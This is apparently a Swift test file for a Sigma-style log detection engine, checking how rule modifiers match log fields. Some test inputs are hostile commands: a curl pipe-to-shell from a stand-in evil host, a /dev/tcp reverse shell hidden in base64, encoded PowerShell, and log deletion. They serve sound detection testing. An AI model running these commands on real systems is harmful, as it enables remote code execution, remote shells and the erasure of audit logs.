import AnyunCore
@testable import Detection
import Foundation
import XCTest

final class SigmaModifierTests: XCTestCase {
    private func rule(_ detection: String) throws -> SigmaRule { try TestRules.rule(detection) }

    func testPlainValueIsWholeValueAndCaseInsensitive() throws {
        let r = try rule("sel:\n  user: Admin\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["user": "admin"]))
        XCTAssertTrue(r.matches(fields: ["user": "ADMIN"]))
        XCTAssertFalse(r.matches(fields: ["user": "administrator"]))
        XCTAssertFalse(r.matches(fields: ["user": "xadmin"]))
        XCTAssertFalse(r.matches(fields: [:]), "a missing field never equals a value")
    }

    func testCaseInsensitivityCoversNonASCII() throws {
        let r = try rule("sel:\n  user: ÄRGER-Ärger\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["user": "ärger-ärger"]))
        let zh = try rule("sel:\n  message|contains: 登录失败\ncondition: sel")
        XCTAssertTrue(zh.matches(fields: [:], message: "用户 Alice 登录失败"))
        XCTAssertFalse(zh.matches(fields: [:], message: "用户 Alice 登录成功"))
    }

    func testCasedModifierIsCaseSensitive() throws {
        let r = try rule("sel:\n  user|cased: Admin\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["user": "Admin"]))
        XCTAssertFalse(r.matches(fields: ["user": "admin"]))
    }

    func testContainsStartsWithEndsWith() throws {
        let c = try rule("sel:\n  command|contains: /var/log\ncondition: sel")
        XCTAssertTrue(c.matches(fields: ["command": "rm -f /VAR/LOG/secure"]))
        XCTAssertFalse(c.matches(fields: ["command": "rm -f /var/lib/x"]))
        let s = try rule("sel:\n  command|startswith: sudo \ncondition: sel")
        XCTAssertTrue(s.matches(fields: ["command": "sudo id"]))
        XCTAssertFalse(s.matches(fields: ["command": "echo sudo id"]))
        let e = try rule("sel:\n  name|endswith: .ko\ncondition: sel")
        XCTAssertTrue(e.matches(fields: ["name": "/tmp/rootkit.KO"]))
        XCTAssertFalse(e.matches(fields: ["name": "/tmp/rootkit.ko.bak"]))
    }

    func testValueListIsOrAndAllMakesItAnd() throws {
        let any = try rule("sel:\n  command|contains:\n    - wget\n    - curl\ncondition: sel")
        XCTAssertTrue(any.matches(fields: ["command": "curl http://x"]))
        XCTAssertTrue(any.matches(fields: ["command": "wget http://x"]))
        XCTAssertFalse(any.matches(fields: ["command": "ls"]))
        let all = try rule("sel:\n  command|contains|all:\n    - wget\n    - chmod\ncondition: sel")
        XCTAssertTrue(all.matches(fields: ["command": "wget http://x/a && chmod +x a"]))
        XCTAssertFalse(all.matches(fields: ["command": "wget http://x/a"]))
        XCTAssertFalse(all.matches(fields: ["command": "chmod +x a"]))
    }

    func testMapIsAndListOfMapsIsOr() throws {
        let and = try rule("sel:\n  action: login\n  outcome: failure\ncondition: sel")
        XCTAssertTrue(and.matches(fields: ["action": "login", "outcome": "failure"]))
        XCTAssertFalse(and.matches(fields: ["action": "login", "outcome": "success"]))
        let or = try rule("sel:\n  - action: login\n    outcome: failure\n  - action: sudo\ncondition: sel")
        XCTAssertTrue(or.matches(fields: ["action": "sudo"]))
        XCTAssertTrue(or.matches(fields: ["action": "login", "outcome": "failure"]))
        XCTAssertFalse(or.matches(fields: ["action": "login"]))
    }

    func testWildcards() throws {
        let star = try rule("sel:\n  process: /usr/*/python*\ncondition: sel")
        XCTAssertTrue(star.matches(fields: ["process": "/usr/bin/python3"]))
        XCTAssertTrue(star.matches(fields: ["process": "/usr/local/bin/python"]))
        XCTAssertFalse(star.matches(fields: ["process": "/opt/bin/python3"]))
        let one = try rule("sel:\n  user: adm?n\ncondition: sel")
        XCTAssertTrue(one.matches(fields: ["user": "admin"]))
        XCTAssertTrue(one.matches(fields: ["user": "adm1n"]))
        XCTAssertTrue(one.matches(fields: ["user": "adm管n"]), "? is one character, not one byte")
        XCTAssertFalse(one.matches(fields: ["user": "admn"]))
        XCTAssertFalse(one.matches(fields: ["user": "admiin"]))
        let inner = try rule("sel:\n  message: '*Failed*for*from 10.*'\ncondition: sel")
        XCTAssertTrue(inner.matches(fields: [:], message: "Failed password for root from 10.1.1.1 port 22"))
        XCTAssertFalse(inner.matches(fields: [:], message: "Failed password for root from 11.1.1.1 port 22"))
        let any = try rule("sel:\n  user: '*'\ncondition: sel")
        XCTAssertTrue(any.matches(fields: ["user": ""]))
        XCTAssertFalse(any.matches(fields: [:]))
    }

    func testEscapedWildcardsAreLiteral() throws {
        let star = try rule(#"sel:\#n  command|contains: 'rm \*'\#ncondition: sel"#)
        XCTAssertTrue(star.matches(fields: ["command": "cd /var/log && rm *"]))
        XCTAssertFalse(star.matches(fields: ["command": "rm -rf /var/log"]))
        let question = try rule(#"sel:\#n  url: '/index.php\?id=1'\#ncondition: sel"#)
        XCTAssertTrue(question.matches(fields: ["url": "/index.php?id=1"]))
        XCTAssertFalse(question.matches(fields: ["url": "/index.phpXid=1"]))
        let backslash = try rule(#"sel:\#n  process|endswith: '\\cmd.exe'\#ncondition: sel"#)
        XCTAssertTrue(backslash.matches(fields: ["process": #"C:\Windows\System32\cmd.exe"#]))
        let path = try rule(#"sel:\#n  process: 'C:\Windows\*'\#ncondition: sel"#)
        XCTAssertTrue(path.matches(fields: ["process": #"C:\Windows*"#]), #"\* after a path is a literal star"#)
        XCTAssertFalse(path.matches(fields: ["process": #"C:\Windows\System32"#]))
        let plain = try rule(#"sel:\#n  process|startswith: 'C:\Windows\'\#ncondition: sel"#)
        XCTAssertTrue(plain.matches(fields: ["process": #"C:\Windows\System32\cmd.exe"#]), "a lone backslash is literal")
    }

    func testNullMatchesMissingOrEmptyAndNotNull() throws {
        let r = try rule("sel:\n  action: login\nfilter:\n  user: null\ncondition: sel and not filter")
        XCTAssertTrue(r.matches(fields: ["action": "login", "user": "alice"]))
        XCTAssertFalse(r.matches(fields: ["action": "login"]))
        XCTAssertFalse(r.matches(fields: ["action": "login", "user": ""]))
        let empty = try rule("sel:\n  user: ''\ncondition: sel")
        XCTAssertTrue(empty.matches(fields: ["user": ""]))
        XCTAssertFalse(empty.matches(fields: [:]), "'' is an empty value, not a missing one")
        XCTAssertFalse(empty.matches(fields: ["user": "x"]))
    }

    func testExists() throws {
        let yes = try rule("sel:\n  src_ip|exists: true\ncondition: sel")
        XCTAssertTrue(yes.matches(fields: ["src_ip": ""]))
        XCTAssertFalse(yes.matches(fields: [:]))
        let no = try rule("sel:\n  src_ip|exists: false\ncondition: sel")
        XCTAssertTrue(no.matches(fields: [:]))
        XCTAssertFalse(no.matches(fields: ["src_ip": "1.2.3.4"]))
    }

    func testNumbersMatchAsTextOrNumber() throws {
        let r = try rule("sel:\n  EventID: 4625\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["EventID": "4625"]))
        XCTAssertTrue(r.matches(fields: ["EventID": "04625"]))
        XCTAssertFalse(r.matches(fields: ["EventID": "4624"]))
        XCTAssertFalse(r.matches(fields: ["EventID": "x4625"]))
        let quoted = try rule("sel:\n  EventID: '4625'\ncondition: sel")
        XCTAssertFalse(quoted.matches(fields: ["EventID": "04625"]), "a quoted value is a string")
    }

    func testYAMLWordsStayStrings() throws {
        let r = try rule("sel:\n  state: on\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["state": "on"]))
        XCTAssertFalse(r.matches(fields: ["state": "true"]))
    }

    func testNumericComparisons() throws {
        let gte = try rule("sel:\n  anomaly_score|gte: 5\ncondition: sel")
        XCTAssertTrue(gte.matches(fields: ["anomaly_score": "5"]))
        XCTAssertTrue(gte.matches(fields: ["anomaly_score": "25"]))
        XCTAssertFalse(gte.matches(fields: ["anomaly_score": "4"]))
        XCTAssertFalse(gte.matches(fields: ["anomaly_score": "high"]))
        XCTAssertFalse(gte.matches(fields: [:]))
        let gt = try rule("sel:\n  status|gt: 499\ncondition: sel")
        XCTAssertTrue(gt.matches(fields: ["status": "500"]))
        XCTAssertFalse(gt.matches(fields: ["status": "499"]))
        let lt = try rule("sel:\n  bytes|lt: 1.5\ncondition: sel")
        XCTAssertTrue(lt.matches(fields: ["bytes": "1.25"]))
        XCTAssertFalse(lt.matches(fields: ["bytes": "1.5"]))
        let lte = try rule("sel:\n  bytes|lte: -1\ncondition: sel")
        XCTAssertTrue(lte.matches(fields: ["bytes": "-1"]))
        XCTAssertFalse(lte.matches(fields: ["bytes": "0"]))
    }

    func testNeq() throws {
        let r = try rule("sel:\n  action: sudo\n  target_user|neq:\n    - root\n    - postgres\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["action": "sudo", "target_user": "www-data"]))
        XCTAssertFalse(r.matches(fields: ["action": "sudo", "target_user": "ROOT"]))
        XCTAssertFalse(r.matches(fields: ["action": "sudo", "target_user": "postgres"]))
    }

    func testRegexIsCaseSensitiveUnlessI() throws {
        let r = try rule(#"sel:\#n  user|re: '^adm[0-9]+$'\#ncondition: sel"#)
        XCTAssertTrue(r.matches(fields: ["user": "adm42"]))
        XCTAssertFalse(r.matches(fields: ["user": "ADM42"]))
        XCTAssertFalse(r.matches(fields: ["user": "xadm42"]))
        let i = try rule(#"sel:\#n  user|re|i: '^adm[0-9]+$'\#ncondition: sel"#)
        XCTAssertTrue(i.matches(fields: ["user": "ADM42"]))
        let search = try rule(#"sel:\#n  message|re: 'port [0-9]{5}'\#ncondition: sel"#)
        XCTAssertTrue(search.matches(fields: [:], message: "from 1.2.3.4 port 40022 ssh2"), "re searches, it is not anchored")
    }

    func testRegexMultilineAndDotAll() throws {
        let text = "first line\nsecond line"
        let plain = try rule(#"sel:\#n  message|re: '^second'\#ncondition: sel"#)
        XCTAssertFalse(plain.matches(fields: [:], message: text))
        let m = try rule(#"sel:\#n  message|re|m: '^second'\#ncondition: sel"#)
        XCTAssertTrue(m.matches(fields: [:], message: text))
        let noDot = try rule(#"sel:\#n  message|re: 'line.second'\#ncondition: sel"#)
        XCTAssertFalse(noDot.matches(fields: [:], message: text))
        let s = try rule(#"sel:\#n  message|re|s: 'line.second'\#ncondition: sel"#)
        XCTAssertTrue(s.matches(fields: [:], message: text))
    }

    func testCIDRv4() throws {
        let r = try rule("sel:\n  src_ip|cidr:\n    - 10.0.0.0/8\n    - 192.168.1.0/24\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["src_ip": "10.200.3.4"]))
        XCTAssertTrue(r.matches(fields: ["src_ip": "192.168.1.255"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "192.168.2.1"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "11.0.0.1"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "10.0.0"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "not-an-ip"]))
        XCTAssertTrue(r.matches(fields: ["src_ip": "::ffff:10.1.2.3"]), "IPv4-mapped IPv6 counts as IPv4")
        let odd = try rule("sel:\n  src_ip|cidr: 172.16.0.0/12\ncondition: sel")
        XCTAssertTrue(odd.matches(fields: ["src_ip": "172.31.255.1"]))
        XCTAssertFalse(odd.matches(fields: ["src_ip": "172.32.0.1"]))
    }

    func testCIDRv6() throws {
        let r = try rule("sel:\n  src_ip|cidr: '2001:db8::/32'\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["src_ip": "2001:db8:1::42"]))
        XCTAssertTrue(r.matches(fields: ["src_ip": "2001:DB8::1"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "2001:db9::1"]))
        XCTAssertFalse(r.matches(fields: ["src_ip": "10.0.0.1"]))
        let narrow = try rule("sel:\n  src_ip|cidr: 'fe80::/10'\ncondition: sel")
        XCTAssertTrue(narrow.matches(fields: ["src_ip": "febf::1%eth0"]))
        XCTAssertFalse(narrow.matches(fields: ["src_ip": "fec0::1"]))
    }

    func testBase64() throws {
        let encoded = Data("curl http://evil.example/x.sh | sh".utf8).base64EncodedString()
        let r = try rule("sel:\n  command|base64|contains: 'curl http://evil.example/x.sh | sh'\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["command": "echo \(encoded) | base64 -d | bash"]))
        XCTAssertFalse(r.matches(fields: ["command": "echo \(encoded.lowercased()) | base64 -d | bash"]), "base64 text is case-sensitive")
    }

    func testBase64OffsetFindsTheValueAtAnyAlignment() throws {
        let r = try rule("sel:\n  command|base64offset|contains: '/bin/bash -i'\ncondition: sel")
        for prefix in ["", "a", "ab", "abc", "abcd", "echo hello; "] {
            let payload = Data((prefix + "/bin/bash -i >& /dev/tcp/1.2.3.4/4444").utf8).base64EncodedString()
            XCTAssertTrue(r.matches(fields: ["command": "python -c exec(b64decode('\(payload)'))"]), "prefix '\(prefix)'")
        }
        let other = Data("/bin/sh -c id".utf8).base64EncodedString()
        XCTAssertFalse(r.matches(fields: ["command": other]))
    }

    func testWindash() throws {
        let r = try rule("sel:\n  command|windash|contains: ' -enc '\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["command": "powershell -enc AAAA"]))
        XCTAssertTrue(r.matches(fields: ["command": "powershell /enc AAAA"]))
        XCTAssertTrue(r.matches(fields: ["command": "powershell \u{2013}enc AAAA"]))
        XCTAssertTrue(r.matches(fields: ["command": "powershell \u{2015}enc AAAA"]))
        XCTAssertFalse(r.matches(fields: ["command": "powershell +enc AAAA"]))
    }

    func testFieldRef() throws {
        let r = try rule("sel:\n  user|fieldref: target_user\ncondition: sel")
        XCTAssertTrue(r.matches(fields: ["user": "alice", "target_user": "Alice"]))
        XCTAssertFalse(r.matches(fields: ["user": "alice", "target_user": "root"]))
        XCTAssertFalse(r.matches(fields: ["user": "alice"]))
    }

    func testKeywordsSearchTheMessage() throws {
        let any = try rule("keywords:\n  - 'segfault at'\n  - 'Out of memory'\ncondition: keywords")
        XCTAssertTrue(any.matches(fields: [:], message: "kernel: nginx[123]: segfault at 0 ip 0000"))
        XCTAssertTrue(any.matches(fields: [:], message: "OUT OF MEMORY: Killed process 42"))
        XCTAssertFalse(any.matches(fields: [:], message: "all is well"))
        let all = try rule("keywords:\n  '|all':\n    - 'Failed'\n    - 'invalid user'\ncondition: keywords")
        XCTAssertTrue(all.matches(fields: [:], message: "Failed password for invalid user oracle from 1.2.3.4"))
        XCTAssertFalse(all.matches(fields: [:], message: "Failed password for root from 1.2.3.4"))
    }

    func testFieldNamesAreMappedPerLogsource() throws {
        let global = try rule("sel:\n  SourceIp: 10.1.1.1\ncondition: sel")
        XCTAssertTrue(global.matches(fields: ["src_ip": "10.1.1.1"]))
        let firstOf = try rule("sel:\n  User: alice\ncondition: sel")
        XCTAssertTrue(firstOf.matches(fields: ["User": "alice", "user": "bob"]), "the first listed name wins")
        XCTAssertTrue(firstOf.matches(fields: ["user": "alice"]))
        let local = try TestRules.rule("sel:\n  SourceIp: 10.1.1.1\ncondition: sel", logsource: "{product: test, service: other}")
        let event = TestEvents.make(app: "otherapp", fields: ["client": "10.1.1.1", "src_ip": "9.9.9.9"])
        XCTAssertTrue(local.matches(event), "a log source's own field mapping overrides the global one")
    }

    func testHeaderFieldsAreReachable() throws {
        let r = try rule("sel:\n  host|startswith: gov-\n  app: testapp\n  facility: 4\ncondition: sel")
        XCTAssertTrue(r.matches(TestEvents.make(facility: 4)))
        XCTAssertFalse(r.matches(TestEvents.make(facility: 3)))
    }

    func testFieldAccessorAgreesWithLogEventValueOf() {
        let event = LogEvent(seq: 9, time: 1, received: 2, transport: .tls, sourceAddress: "10.9.9.9", facility: 10,
                             severity: 3, hostname: "h1", app: "sshd", procID: nil, msgID: "ID47", message: "m",
                             fields: ["pid": "77", "user": "u", "src_ip": "1.1.1.1"], decoder: "sshd",
                             unitID: 1, systemID: 2, hostID: 3)
        let names = ["host", "hostname", "app", "program", "app_name", "procid", "pid", "msgid", "message", "msg",
                     "source", "source_address", "severity", "facility", "transport", "decoder", "unit_id",
                     "system_id", "host_id", "user", "src_ip", "absent"]
        for name in names {
            XCTAssertEqual(FieldAccessor(name: name).value(in: event), event.value(of: name), name)
        }
    }
}
